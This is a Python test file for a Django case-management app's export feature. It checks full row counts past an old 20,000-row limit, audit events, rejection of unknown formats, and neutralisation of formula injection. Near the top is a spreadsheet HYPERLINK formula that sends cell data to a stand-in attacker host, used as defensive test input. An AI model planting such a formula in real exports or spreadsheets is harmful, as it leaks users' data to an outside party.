"""The case list's export through the one exporter: every row (no cut), a title stays text, one audit event."""

from __future__ import annotations

import csv
import io
import zipfile

from django.db import connection
from django.urls import reverse
from openpyxl import load_workbook

from grassroots.cases.models import Case
from grassroots.cases.states import Status
from grassroots.cases.tests.factories import make_case
from grassroots.core import exports
from grassroots.core.models import Event, ExportJob, PolicySetting
from tests.support.world import login_verified

FORMULA = '=HYPERLINK("http://evil.example/?d="&B2,"点击查看详情")'
OLD_LIMIT = 20_000


def clone(case: Case, n: int) -> None:
    """``n`` more rows like ``case``, written by one INSERT … SELECT (the export is what is tested, not intake)."""
    fields = [f for f in Case._meta.concrete_fields if not f.primary_key]
    names = [f.column for f in fields]
    picked = ["'B' || n.i" if c == "reference" else "'K' || n.i" if c == "tracking_code" else f"c.{c}"
              for c in names]
    with connection.cursor() as cursor:
        cursor.execute(
            f"INSERT INTO {Case._meta.db_table} ({', '.join(names)}) "
            f"SELECT {', '.join(picked)} FROM {Case._meta.db_table} c, "
            "(WITH RECURSIVE s(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM s WHERE i < %s) SELECT i FROM s) n "
            "WHERE c.id = %s", [n, case.pk])


def test_the_export_holds_every_case_beyond_the_old_20000_limit(
        client, world, settings, tmp_path, django_capture_on_commit_callbacks):
    settings.MEDIA_ROOT = str(tmp_path)
    clone(make_case(world, Status.REPORTED), OLD_LIMIT + 50)
    total = OLD_LIMIT + 51
    client.force_login(world.community_staff)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.get(reverse("cases:case_export"))
    assert response.status_code == 302 and response["Location"] == reverse("core:export_list")
    job = ExportJob.objects.get()
    assert job.status == "done" and job.rows_done == total and job.kind == "cases.case"
    download = client.get(reverse("core:export_download", args=[job.pk]))
    with zipfile.ZipFile(io.BytesIO(b"".join(download.streaming_content))) as z:
        xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert xml.count("<row ") == total + 1 and f"B{OLD_LIMIT + 50}<" in xml
    event = Event.objects.get(verb="case.export")
    assert event.actor_id == world.community_staff.pk and event.payload["rows"] == total


def test_a_formula_in_a_residents_title_stays_text_in_excel_and_is_prefixed_in_csv(client, world):
    case = make_case(world, Status.REPORTED)
    # A title as it may already be stored (older rows, imported work orders): the export must never run it.
    Case.objects.filter(pk=case.pk).update(title=FORMULA)
    client.force_login(world.community_staff)
    response = client.get(reverse("cases:case_export"))
    with zipfile.ZipFile(io.BytesIO(response.content)) as z:
        xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "HYPERLINK" in xml
    cell = load_workbook(io.BytesIO(response.content)).active["E2"]
    assert cell.value == FORMULA and cell.data_type == "s"
    response = client.get(reverse("cases:case_export"), {"format": "csv"})
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[1][4] == "'" + FORMULA


def test_the_export_is_one_audit_event_with_the_pages_filters_and_row_count(client, world):
    make_case(world, Status.REPORTED)
    make_case(world, Status.CLOSED)
    PolicySetting.objects.create(key=exports.BACKGROUND_ROWS, value=100)
    login_verified(client, world.zone_leader)
    response = client.get(reverse("cases:case_export"), {"status": "reported", "date_from": "2020-01-01"})
    assert load_workbook(io.BytesIO(response.content)).active.max_row == 2
    event = Event.objects.get(verb="case.export")
    assert event.actor_id == world.zone_leader.pk and event.object_type == "cases.case"
    assert event.payload == {"kind": "cases.case", "format": "xlsx", "rows": 1,
                             "filters": {"status": "reported", "date_from": "2020-01-01"}}


def test_an_unknown_format_answers_400_not_a_file(client, world):
    client.force_login(world.community_staff)
    response = client.get(reverse("cases:case_export"), {"format": "exe"})
    assert response.status_code == 400 and not Event.objects.filter(verb="case.export").exists()
